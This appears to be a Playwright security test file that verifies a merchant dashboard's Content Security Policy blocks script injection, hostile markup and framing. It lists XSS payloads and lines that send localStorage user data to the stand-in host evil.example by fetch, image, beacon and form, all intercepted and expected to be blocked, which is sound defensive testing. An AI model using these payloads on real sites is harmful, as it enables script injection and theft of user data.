import type { Page, Route } from '@playwright/test';
import { expect, openAs, SAFFRON, test } from './test.ts';

const EVIL = 'http://evil.example';

declare global {
  interface Window {
    /** The attacks that came through. */
    attacked?: string[];
  }
}

/** What somebody who may run a little code, or has found a careless one to call, would do next. */
const SINKS: Record<string, () => unknown> = {
  innerHTML: () => {
    const parent = document.body.appendChild(document.createElement('div'));
    parent.innerHTML = `<img src="/none" onerror="(window.attacked ??= []).push('innerHTML')">`;
  },
  insertAdjacentHTML: () =>
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="/none" onerror="(window.attacked ??= []).push('insertAdjacentHTML')">`,
    ),
  'inline handler': () => {
    const button = document.body.appendChild(document.createElement('button'));
    button.setAttribute('onclick', "(window.attacked ??= []).push('inline handler')");
    button.click();
  },
  'inline script': () => {
    const script = document.createElement('script');
    script.text = "(window.attacked ??= []).push('inline script')";
    document.head.append(script);
  },
  'foreign script': () => {
    const script = document.createElement('script');
    script.src = 'http://evil.example/foreign script';
    document.head.append(script);
  },
  // From a timer: what the test itself evaluates may evaluate more.
  eval: () =>
    setTimeout(() => {
      // biome-ignore lint/security/noGlobalEval: the attack itself
      eval("(window.attacked ??= []).push('eval')");
    }),
  Function: () => setTimeout(() => new Function("(window.attacked ??= []).push('Function')")()),
  'timer of text': () =>
    setTimeout("(window.attacked ??= []).push('timer of text')" as unknown as () => void),
  srcdoc: () => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>(parent.attacked ??= []).push('srcdoc')</script>`;
    document.body.append(frame);
  },
  'foreign module': () => import('http://evil.example/foreign module' as string),
  'secret by fetch': () => fetch(`http://evil.example/secret by fetch?${localStorage.user}`),
  'secret by image': () => {
    new Image().src = `http://evil.example/secret by image?${localStorage.user}`;
  },
  'secret by beacon': () =>
    navigator.sendBeacon('http://evil.example/secret by beacon', localStorage.user),
  'secret by form': () => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'target' });
    const form = document.createElement('form');
    Object.assign(form, { action: 'http://evil.example/secret by form', target: 'target' });
    document.body.append(frame, form);
    form.submit();
  },
};

/** What a server-side hole would write into the page. */
const MARKUP: Record<string, string> = {
  'script element': `<script>(window.attacked ??= []).push('script element')</script>`,
  'handler attribute': `<img src="/none" onerror="(window.attacked ??= []).push('handler attribute')">`,
  'foreign script element': `<script src="${EVIL}/foreign script element"></script>`,
  'javascript: address': `<iframe src="javascript:(parent.attacked ??= []).push('javascript: address')"></iframe>`,
  'foreign frame': `<iframe src="${EVIL}/foreign frame"></iframe>`,
  'foreign style sheet': `<link rel="stylesheet" href="${EVIL}/foreign style sheet">`,
  'style element': `<style>body { background: url("${EVIL}/style element") }</style>`,
  'style attribute': `<p style='background: url("${EVIL}/style attribute")'>.</p>`,
  'other base': `<base href="${EVIL}/"><script src="other base"></script>`,
};

/** Notes what reaches the attacker's site, and answers with a script that says so in the page. */
async function standUpEvil(page: Page): Promise<Set<string>> {
  const reached = new Set<string>();
  await page.route(`${EVIL}/**`, (route) => {
    const name = decodeURIComponent(new URL(route.request().url()).pathname.slice(1));
    reached.add(name);
    return route.fulfill({ contentType: 'text/javascript', body: '', headers: ANYBODY });
  });
  return reached;
}

const ANYBODY = { 'access-control-allow-origin': '*' };

async function answerWith(route: Route, { body = '', isFree }: { body?: string; isFree: boolean }) {
  const response = await route.fetch();
  const { 'content-security-policy': policy = '', ...others } = response.headers();
  await route.fulfill({
    response,
    headers: isFree ? others : { ...others, 'content-security-policy': policy },
    body: (await response.text()).replace('</body>', `${body}</body>`),
  });
}

async function cameThrough(page: Page, reached: Set<string>): Promise<string[]> {
  const inPage = await page.evaluate(() => window.attacked ?? []);
  return [...new Set([...inPage, ...reached])];
}

// Each attack is made on a page without the policy too: one that would not work anyway shows nothing.
for (const isFree of [true, false]) {
  const what = isFree ? 'comes through without the policy' : 'is refused by the policy';

  test(`text that becomes code, or a secret sent elsewhere, ${what}`, async ({
    page,
    complaints,
  }) => {
    const reached = await standUpEvil(page);
    await page.route('**/transactions', (route) => answerWith(route, { isFree }));
    await openAs(page, SAFFRON);
    for (const [name, attack] of Object.entries(SINKS)) {
      const before = complaints.length;
      await page.evaluate(attack).catch(() => {});
      if (!isFree) {
        await expect.poll(() => complaints.length, name).toBeGreaterThan(before);
      }
    }
    const all = Object.keys(SINKS);
    await expect
      .poll(() => cameThrough(page, reached))
      .toEqual(isFree ? expect.arrayContaining(all) : []);
    complaints.length = 0;
  });

  test(`markup written into the page ${what}`, async ({ page, complaints }) => {
    const reached = await standUpEvil(page);
    const body = Object.values(MARKUP).join('\n');
    await page.route('**/login', (route) => answerWith(route, { body, isFree }));
    await page.goto('/login');
    await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
    const all = Object.keys(MARKUP);
    if (!isFree) await expect.poll(() => complaints.length).toBeGreaterThanOrEqual(all.length);
    await expect
      .poll(() => cameThrough(page, reached))
      .toEqual(isFree ? expect.arrayContaining(all) : []);
    complaints.length = 0;
  });
}

test('no other page can put the dashboard into a frame', async ({ page, complaints }) => {
  const body = '<iframe src="/login"></iframe>';
  await page.route('**/frames', (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/frames');
  await expect.poll(() => complaints.join()).toContain('frame-ancestors');
  await expect(page.frameLocator('iframe').getByRole('button')).toHaveCount(0);
  complaints.length = 0;
});

test('a date may be mistyped, pasted over and cut', async ({ page }) => {
  await openAs(page, SAFFRON);
  const month = page.getByRole('spinbutton', { name: 'Month' }).first();
  const empty = (await month.textContent()) ?? '';
  await month.click();
  for (const text of ['x', '0', '<b>5</b>']) await page.keyboard.insertText(text);
  await expect(month).toHaveText(empty);
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText('<b>x</b>');
  await page.keyboard.press('Control+X');
  await expect(month).toHaveText(empty);
});

test('the contract of the service is shown with its looks', async ({ page }) => {
  await page.goto('/api/docs');
  await expect(page.getByRole('heading', { name: 'Merchant transactions' })).toBeVisible();
  const width = await page.evaluate(() => getComputedStyle(document.body).maxWidth);
  expect(width).toBe('832px');
});
